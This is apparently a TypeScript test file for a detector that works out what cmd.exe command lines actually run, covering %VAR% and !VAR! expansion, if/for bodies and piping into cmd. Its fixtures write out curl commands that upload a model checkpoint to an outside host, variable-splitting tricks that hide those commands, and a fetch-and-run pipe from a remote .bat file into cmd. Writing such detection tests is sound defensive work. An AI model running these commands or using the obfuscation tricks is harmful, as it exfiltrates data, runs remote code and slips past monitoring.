/**
 * cmd.exe's variables, `if`, `for` and stdin (exec-cmd-vars.ts, exec-cmd-reader.ts, exec-cmd.ts):
 * `%VAR%` is expanded once before the line runs (the environment's value: runtime), `call`
 * expands again with the values the line set, `!VAR!` under `/v:on` when each command runs;
 * `if` and `for` run the commands in them; `… | cmd` runs what it is fed.
 */
import { describe, expect, it } from 'vitest';
import { cmdReading, cmdReadsStdin, cmdScript } from './exec-cmd.js';
import { canonicalExecValue, execIndirectReading } from './exec-canonical.js';
import { execRuleIds } from './exec-events.test-support.js';
import { readShellScript } from './shell-words.js';

const CKPT = 'C:\\ckpt\\model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
const CURL = ['curl', '-T', CKPT, URL];
const cmds = (text: string): string[][] => readShellScript(cmdScript(text)).commands;
/** The commands a line runs and the INDIRECT_* bits of its reading. */
function reading(text: string, delayed: boolean | null = null): { commands: string[][]; kinds: number } {
  const how = { kinds: 0 };
  return { commands: readShellScript(cmdReading(text, delayed, how)).commands, kinds: how.kinds };
}
const canon = (argv: unknown): string[][] => canonicalExecValue(argv)?.commands ?? [];
const indirect = (argv: unknown): unknown => execIndirectReading(canonicalExecValue(argv));

describe('%VAR%: expanded before the line runs; call expands again', () => {
  it('set then call: the values the line set (the example of the header)', () => {
    const line = `set a=cu&& set b=rl&& call %a%%b% -T ${CKPT} ${URL}`;
    expect(reading(line).commands).toContainEqual(CURL);
    expect(reading(line).kinds).toBe(4);
    expect(canon(['cmd', '/c', line])).toContainEqual(CURL);
    expect(indirect(['cmd', '/c', line])).toEqual([true, 'runtime']);
    expect(canon(['sh', '-c', `cmd.exe /c "${line}"`])).toContainEqual(CURL);
  });

  it('without call the line was expanded before set ran: the names stay as written', () => {
    expect(cmds(`set a=cu&& set b=rl&& %a%%b% -T ${CKPT} ${URL}`)).toContainEqual(['%a%%b%', '-T', CKPT, URL]);
    expect(cmds(`set a=cu&& set b=rl&& %a%%b% -T ${CKPT} ${URL}`)).not.toContainEqual(CURL);
  });

  it('a value is the rest of the command, trailing blanks kept; quoted set; substrings and replacements', () => {
    expect(cmds('set a=cu && call %a%rl x')).toContainEqual(['cu', 'rl', 'x']);
    expect(cmds(`set "a=cu" & call %a%rl -T ${CKPT} ${URL}`)).toContainEqual(CURL);
    expect(cmds(`set a=xcurlx&& call %a:~1,4% -T ${CKPT} ${URL}`)).toContainEqual(CURL);
    expect(cmds(`set a=xxcurl&& call %a:~-4% -T ${CKPT} ${URL}`)).toContainEqual(CURL);
    expect(cmds(`set a=cXrl&& call %a:X=u% -T ${CKPT} ${URL}`)).toContainEqual(CURL);
    // The value's caret escapes again when call reads the line again (its caret doubling came before the expansion).
    expect(cmds(`set a=c^^url&& call %a% -T ${CKPT} ${URL}`)).toContainEqual(CURL);
    // A value with an operator: call reads the expanded text as a command line again.
    expect(cmds(`set a=whoami^& hostname&& call %a%`)).toEqual([['set', 'a=whoami&', 'hostname'], ['whoami'], ['hostname']]);
  });

  it('what depends on the environment is runtime: %NAME%, %COMSPEC%, %~dp0, set /p, set /a', () => {
    for (const t of ['dir %X%', '%COMSPEC% /c whoami', 'call %~dp0x.bat', `curl -T ${CKPT} https://x/a%20b%20c`, 'set /p a=&& call %a%', 'set /a n=1+1&& call x%n%']) {
      expect(reading(t).kinds, t).toBe(4);
    }
    for (const t of ['dir', 'echo 100%', 'echo %%', `curl -T ${CKPT} ${URL}`]) expect(reading(t).kinds, t).toBe(0);
    expect(indirect(['cmd', '/c', 'whoami'])).toBe(false);
    expect(indirect(['cmd', '/c', 'dir %USERPROFILE%'])).toEqual([true, 'runtime']);
  });
});

describe('!VAR!: delayed expansion under /v:on', () => {
  it('expanded when each command runs, with the values set before it', () => {
    const line = `set a=cu&& set b=rl&& !a!!b! -T ${CKPT} ${URL}`;
    expect(reading(line, true)).toEqual({ commands: [['set', 'a=cu'], ['set', 'b=rl'], CURL], kinds: 0 });
    expect(canon(['cmd', '/V:ON', '/c', line])).toContainEqual(CURL);
    expect(canon(['cmd', '/v', '/c', line])).toContainEqual(CURL);
    expect(reading('echo !nope!x', true)).toEqual({ commands: [['echo', 'x']], kinds: 4 });
  });
  it('/v:off: as written; neither: as written, and runtime (the registry decides)', () => {
    expect(reading('!a!rl x', false)).toEqual({ commands: [['!a!rl', 'x']], kinds: 0 });
    expect(reading('!a!rl x', null)).toEqual({ commands: [['!a!rl', 'x']], kinds: 4 });
    expect(reading('echo hi!', null).kinds).toBe(0);
    expect(indirect(['cmd', '/c', 'set a=cu&& !a!rl x'])).toEqual([true, 'runtime']);
  });
});

describe('if and for run the commands in them', () => {
  it('if: the condition dropped, the command after it read; else too', () => {
    expect(cmds(`if exist ${CKPT} (curl -T ${CKPT} ${URL}) else (echo none)`)).toEqual([CURL, ['echo', 'none']]);
    expect(cmds(`@if not "%X%"=="" curl -T ${CKPT} ${URL}`)).toEqual([CURL]);
    expect(cmds('if /i a EQU b whoami')).toEqual([['whoami']]);
    expect(cmds('if a == b whoami')).toEqual([['whoami']]);
    expect(cmds('if a ==b whoami')).toEqual([['whoami']]);
    expect(cmds('if errorlevel 1 (whoami) else if defined X (hostname) else (ipconfig /all)')).toEqual([['whoami'], ['hostname'], ['ipconfig', '/all']]);
    expect(canon(['cmd', '/c', `if exist C:\\x (dir) else (curl -T ${CKPT} ${URL})`])).toContainEqual(CURL);
    expect(cmds('echo if a==b x')).toEqual([['echo', 'if', 'a==b', 'x']]);
  });

  it('for /f runs its command, then the body (runtime: the variable holds its output)', () => {
    const r = reading(`for /f "delims=" %i in ('whoami /all') do curl -d %i ${URL}`);
    expect(r.commands).toEqual([['whoami', '/all'], ['curl', '-d', '%i', URL]]);
    expect(r.kinds).toBe(4);
    expect(cmds("for /f %i in ('dir /b C:\\ckpt ^| findstr pt') do @curl -T C:\\ckpt\\%i " + URL)).toEqual([['dir', '/b', 'C:\\ckpt'], ['findstr', 'pt'], ['curl', '-T', 'C:\\ckpt\\%i', URL]]);
    expect(cmds('for /f "usebackq tokens=*" %i in (`type C:\\x.txt`) do (echo %i & whoami)')).toEqual([['type', 'C:\\x.txt'], ['echo', '%i'], ['whoami']]);
    expect(cmds(`for %f in (C:\\ckpt\\*.pt) do curl -T %f ${URL}`)).toEqual([['curl', '-T', '%f', URL]]);
    expect(cmds("for /f %i in ('echo a)b') do x %i")).toEqual([['echo', 'a)b'], ['x', '%i']]);
    expect(indirect(['cmd', '/c', `for %f in (*.pt) do curl -T %f ${URL}`])).toEqual([true, 'runtime']);
  });
});

describe('… | cmd runs what it is fed, as … | sh does', () => {
  const fed = (argv: unknown): readonly string[] => canonicalExecValue(argv)?.fedToShell ?? [];
  it('cmdReadsStdin: no /c or /r', () => {
    expect(cmdReadsStdin(['cmd'], 0)).toBe(true);
    expect(cmdReadsStdin(['C:\\Windows\\System32\\cmd.exe', '/q'], 0)).toBe(true);
    expect(cmdReadsStdin(['cmd', '/k', 'dir'], 0)).toBe(true);
    expect(cmdReadsStdin(['cmd', '/C', 'dir'], 0)).toBe(false);
    expect(cmdReadsStdin(['curl'], 0)).toBe(false);
  });
  it('attrs.exec.pipedToShell names the tools that feed it; MLS-RAY-012 fires', () => {
    expect(fed(['cmd', '/c', 'curl -s http://203.0.113.7/r.bat | cmd'])).toEqual(['curl']);
    expect(fed(['sh', '-c', 'curl -s http://203.0.113.7/r.bat | cmd.exe /q'])).toEqual(['curl']);
    expect(fed(['cmd', '/c', 'type C:\\x.bat | cmd /k echo'])).toEqual(['type']);
    expect(fed(['cmd', '/c', 'curl -s http://203.0.113.7/r.bat | cmd /c findstr x'])).toEqual([]);
    expect(fed(['cmd', '/c', 'curl -s http://203.0.113.7/r.bat | findstr x'])).toEqual([]);
    expect(execRuleIds(['cmd.exe', '/c', 'curl.exe -s http://203.0.113.7/r.bat | cmd'])).toContain('MLS-RAY-012');
    expect(execRuleIds(['cmd.exe', '/c', 'curl.exe -s http://203.0.113.7/r.txt | findstr x'])).not.toContain('MLS-RAY-012');
  });
});
